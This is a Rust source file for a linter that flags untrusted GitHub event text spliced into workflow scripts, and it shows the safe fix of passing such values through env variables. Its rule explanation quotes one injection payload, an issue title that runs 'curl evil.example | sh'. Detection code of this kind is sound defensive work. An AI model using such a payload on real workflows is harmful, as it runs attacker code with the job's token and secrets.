//! Untrusted text that is spliced into a script.

use anyhow::Result;
use serde::Deserialize;

use super::view::{Context, Step, View};
use crate::core::finding::{Group, Severity};
use crate::core::yaml::Node;
use crate::lint::rule::{Offence, Parameters, Rule};

pub(crate) const RULE: Rule = Rule {
    name: "template-injection",
    group: Group::Workflow,
    severity: Severity::High,
    summary: "Untrusted text is spliced into a script by an expression.",
    why: "GitHub replaces `${{ … }}` before the shell sees the script. An issue titled `\"; curl evil.example | sh #` \
          is then not a title but a command, run with the job's token and secrets. Anyone can open an issue, name \
          a branch or write a commit message.\n\nParameters: `safe`, look-ups that may be spliced (a final `*` matches any \
          suffix).",
    example: "```yaml\n- run: echo \"${{ github.event.issue.title }}\"\n```\n\nPass it as data:\n\n```yaml\n- run: echo \
              \"$TITLE\"\n  env:\n    TITLE: ${{ github.event.issue.title }}\n```",
    remedy: "set it as an `env` of the step, and use the variable, quoted, in the script",
};

pub(crate) const SPLICED: Rule = Rule {
    name: "template-expansion",
    group: Group::Workflow,
    severity: Severity::Medium,
    summary: "An input, output or variable is spliced into a script by an expression.",
    why: "GitHub replaces `${{ … }}` before the shell sees the script, so a quote or a `$(…)` in the value becomes part \
          of the command. Results of steps, inputs and variables often contain untrusted text; whether they do here \
          cannot be seen in this file.\n\nParameters: `safe` of `template-injection` applies here too.",
    example: "```yaml\n- run: ./deploy.sh ${{ inputs.environment }}\n```\n\n```yaml\n- run: ./deploy.sh \"$ENVIRONMENT\"\n  \
              env:\n    ENVIRONMENT: ${{ inputs.environment }}\n```",
    remedy: "set it as an `env` of the step, and use the variable, quoted, in the script",
};

/// Look-ups that only GitHub or the workflow's author can set.
const SAFE: [&str; 34] = [
    "github.action",
    "github.action_path",
    "github.api_url",
    "github.event.number",
    "github.event_name",
    "github.graphql_url",
    "github.job",
    "github.ref_protected",
    "github.ref_type",
    "github.repository",
    "github.repository_id",
    "github.repository_owner",
    "github.repository_owner_id",
    "github.retention_days",
    "github.run_attempt",
    "github.run_id",
    "github.run_number",
    "github.server_url",
    "github.sha",
    "github.workflow",
    "github.workflow_sha",
    "github.workspace",
    "github.actor_id",
    "job.status",
    "job.container.*",
    "job.services.*",
    "matrix.*",
    "runner.*",
    "strategy.*",
    "github.event_path",
    "github.env",
    "github.output",
    "github.path",
    "github.step_summary",
];

/// Fields of an event that are numbers, hashes or fixed words of GitHub, in any object.
/// Names of accounts and repositories, and the addresses of pages that are made from them, have no characters that a shell
/// reads.
const SAFE_FIELDS: [&str; 28] = [
    "id",
    "number",
    "node_id",
    "sha",
    "merged",
    "draft",
    "action",
    "forced",
    "created_at",
    "login",
    "full_name",
    "after",
    "author_association",
    "before",
    "closed_at",
    "completed_at",
    "head_sha",
    "html_url",
    "merge_commit_sha",
    "merged_at",
    "published_at",
    "pushed_at",
    "run_started_at",
    "started_at",
    "state",
    "state_reason",
    "submitted_at",
    "updated_at",
];

/// Objects of an event that only people with rights to the repository write: the names of tags and labels, for example.
const OF_MEMBERS: [&str; 11] = [
    "changes",
    "deployment",
    "deployment_status",
    "enterprise",
    "installation",
    "label",
    "merge_group",
    "milestone",
    "organization",
    "release",
    "repository",
];

#[derive(Debug, Default, Deserialize)]
#[serde(default, deny_unknown_fields)]
struct Settings {
    safe: Vec<String>,
}

/// Untrusted text.
pub(super) fn check(view: &View<'_>, _: &Context<'_>, parameters: &Parameters) -> Result<Vec<Offence>> {
    spliced(view, parameters, &RULE, true)
}

/// Text that may be untrusted.
pub(super) fn check_spliced(
    view: &View<'_>,
    _: &Context<'_>,
    parameters: &Parameters,
) -> Result<Vec<Offence>> {
    spliced(view, parameters, &SPLICED, false)
}

fn spliced(view: &View<'_>, parameters: &Parameters, rule: &Rule, is_certain: bool) -> Result<Vec<Offence>> {
    let settings: Settings = parameters.of(&RULE)?;
    let mut offences = Vec::new();
    for (step, script) in view.scripts() {
        for found in view.within(script) {
            let Ok(expression) = &found.parsed else { continue };
            for path in expression.results() {
                let written = who_writes(view, step, &path, &settings, 0);
                if let Some(writer) = written.filter(|writer| writer.is_outsider() == is_certain) {
                    let message = format!("`{}` is spliced into a script; {}", path.join("."), writer.says());
                    offences.push(view.offence(rule, found.span, message));
                }
            }
        }
    }
    Ok(offences)
}

/// Who controls the value of a look-up.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Writer {
    Unknown,
    Caller,
    Starter,
    Outsider,
}

impl Writer {
    fn is_outsider(self) -> bool {
        self == Self::Outsider
    }

    fn says(self) -> &'static str {
        match self {
            Self::Unknown => "it can carry outside text",
            Self::Caller => "the caller controls it",
            Self::Starter => "the person who starts the workflow controls it",
            Self::Outsider => "anyone can control it",
        }
    }
}

/// How far variables that refer to variables are followed: deeper than GitHub's three levels.
const MOST_LEVELS: usize = 4;

/// Who controls its value; `None` if it may be spliced.
fn who_writes(
    view: &View<'_>,
    step: &Step<'_>,
    path: &[String],
    settings: &Settings,
    depth: usize,
) -> Option<Writer> {
    let joined = path.join(".");
    let safe = SAFE.iter().copied().chain(settings.safe.iter().map(String::as_str));
    if safe.into_iter().any(|pattern| covers(pattern, &joined)) {
        return None;
    }
    let fields: Vec<&str> = path.iter().map(String::as_str).collect();
    match fields.as_slice() {
        // Secrets have a separate rule; results are fixed words of GitHub; names of repositories are plain.
        ["secrets", ..]
        | ["github", "token"]
        | ["needs", _, "result"]
        | ["steps", _, "outcome" | "conclusion"]
        | ["github", "event", .., "repository" | "repo", "name"] => None,
        ["env", name] if depth < MOST_LEVELS => of_variable(view, step, name, settings, depth),
        // Only a token with write access dispatches an event or names a branch of this repository.
        ["github", "event", "inputs" | "client_payload", ..] => Some(Writer::Starter),
        ["github", "event", "pull_request", "base", ..] => Some(Writer::Unknown),
        ["github", "event", .., last] if SAFE_FIELDS.contains(last) => None,
        ["github", "event", object, ..] if OF_MEMBERS.contains(object) => Some(Writer::Unknown),
        // A pushed branch belongs to this repository: people with write access name it.
        ["github", "event", "ref"] | ["github", "ref" | "ref_name"]
            if !view.is_triggered_by_pull_request() =>
        {
            Some(Writer::Unknown)
        }
        ["github", "event" | "head_ref" | "ref" | "ref_name", ..] => Some(Writer::Outsider),
        ["inputs", ..] => Some(Writer::Caller),
        _ => Some(Writer::Unknown),
    }
}

/// Who controls a variable, by the nearest level that sets it. One that a script may overwrite through
/// `GITHUB_ENV` is unknown.
fn of_variable(
    view: &View<'_>,
    step: &Step<'_>,
    name: &str,
    settings: &Settings,
    depth: usize,
) -> Option<Writer> {
    let set = view.levels(step).into_iter().enumerate().find_map(|(level, node)| {
        let entries = node.get("env").map(Node::entries).unwrap_or_default();
        let value =
            entries.iter().find(|(key, _)| key.text().is_some_and(|key| key.eq_ignore_ascii_case(name)));
        value.map(|(_, value)| (level, value))
    });
    let Some((level, value)) = set else { return Some(Writer::Unknown) };
    let is_of_step = level == 0;
    if !is_of_step && view.writes_variable(step.job, name) {
        return Some(Writer::Unknown);
    }
    view.within(value)
        .filter_map(|found| found.parsed.as_ref().ok())
        .flat_map(super::expression::Expression::results)
        .filter_map(|path| who_writes(view, step, &path, settings, depth + 1))
        .max()
}

fn covers(pattern: &str, path: &str) -> bool {
    match pattern.strip_suffix(".*") {
        Some(start) => path.strip_prefix(start).is_some_and(|rest| rest.starts_with('.')),
        None => pattern == path,
    }
}
